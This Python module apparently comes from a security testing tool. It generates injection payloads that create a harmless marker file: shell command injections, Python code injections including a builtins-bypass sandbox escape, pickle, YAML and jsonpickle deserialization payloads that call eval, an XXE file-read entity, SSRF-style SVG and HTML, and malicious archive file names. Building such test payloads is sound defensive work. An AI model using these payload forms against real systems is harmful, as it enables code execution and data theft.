"""Texts that make a shell, an evaluator, or a reader of data run code, by where they arrive."""

from .values import NONCE, hole

TOUCH = f"touch {NONCE}"
ANYWHERE = f"touch /work/{NONCE}"

COMMANDS = {
    "": [
        f";{TOUCH};#", f"$({TOUCH})", f"`{TOUCH}`", f"|{TOUCH}", f"& {TOUCH} &", f"\n{TOUCH}\n", f"||{TOUCH}",
        f";touch${{IFS}}{NONCE};", f"a;{TOUCH};#", f"$({ANYWHERE})", f";{ANYWHERE};#",
    ],
    '"': [f"$({TOUCH})", f"`{TOUCH}`", f'";{TOUCH};"', f'";{TOUCH};#', f"$({ANYWHERE})", f'";{ANYWHERE};#'],
    "'": [f"';{TOUCH};'", f"';{TOUCH};#", f"'$({TOUCH})'", f"';{ANYWHERE};#", f"'$({ANYWHERE})'"],
}  # fmt: skip


def quoting_after(text, escapes_in="\"'"):
    """The quote that is open at the end of a text, or nothing."""
    quote, is_escaped = "", False
    for each in text:
        if is_escaped:
            is_escaped = False
        elif each == "\\" and quote in ("", *escapes_in):
            is_escaped = True
        elif each in "\"'":
            quote = "" if quote == each else quote or each
    return quote


def command_payloads(before):
    return COMMANDS[quoting_after(before, '"')]


def effects(quote):
    """Expressions that create a directory, with and without built-in functions."""
    return (
        f"__import__({quote}os{quote}).mkdir({quote}{NONCE}{quote})",
        f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__=={quote}_wrap_close{quote}]"
        f"[0].__init__.__globals__[{quote}mkdir{quote}]({quote}{NONCE}{quote})",
    )


def code_payloads(before):
    quote = quoting_after(before)
    inner = '"' if quote == "'" else "'"
    payloads = []
    for effect in effects(inner):
        if quote:
            payloads += [f"{quote}+str({effect})+{quote}", f"{quote},{effect},{quote}", f"{quote})or {effect}#"]
            payloads += [f"{quote}\n{effect}\n{quote}", f"\\{quote}+str({effect})#", f"{{{effect}}}"]
        else:
            payloads += [effect, f"1,{effect}", f"a={effect}", f"{effect})#", f"1 or {effect}", f"\n{effect}\n"]
            payloads += [f"x:{effect}", f"x():\n  pass\n{effect}\ndef y", f"(x=({effect}))"]
    return payloads


RUN = effects("'")[0]
# The texts of data formats that can name functions to call.
PICKLE = f'cbuiltins\neval\n(S"{RUN}"\ntR.'
OWN_STATE = (PICKLE,)
DOCUMENTS = (
    f'!!python/object/apply:builtins.eval ["{RUN}"]',
    f'!!python/object/new:type\nargs: ["z", !!python/tuple [], {{"extend": !!python/name:exec }}]\nlistitems: "{RUN}"',
    PICKLE,
    f'{{"py/reduce":[{{"py/function":"builtins.eval"}},{{"py/tuple":["{RUN}"]}}]}}',
)

# A document whose text is the content of a file, and documents that refer to an address.
ENTITY_DOCUMENT = (
    f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///work/{NONCE}">]>'
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e;</text></svg>'
)
ADDRESS = f"http://127.0.0.1:18099/{NONCE}"
ADDRESS_DOCUMENTS = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
    f'<image xlink:href="{ADDRESS}" width="9" height="9"/></svg>',
    f'<html><head><link rel="stylesheet" href="{ADDRESS}"></head><body><img src="{ADDRESS}"></body></html>',
)
# An archive with one file, whose name is the payload.
ARCHIVE_FORMS = tuple({"$": kind, "text": hole(0)} for kind in ("tar-file", "tar-path", "zip-path", "zip-file", "tar-bytes"))

DOCUMENT_FORMS = (
    hole(0),
    {"$": "bytes", "text": hole(0)},
    {"$": "text-file", "text": hole(0)},
    {"$": "binary-file", "text": hole(0)},
    {"$": "path", "text": hole(0)},
    {"$": "base64", "text": hole(0)},
)
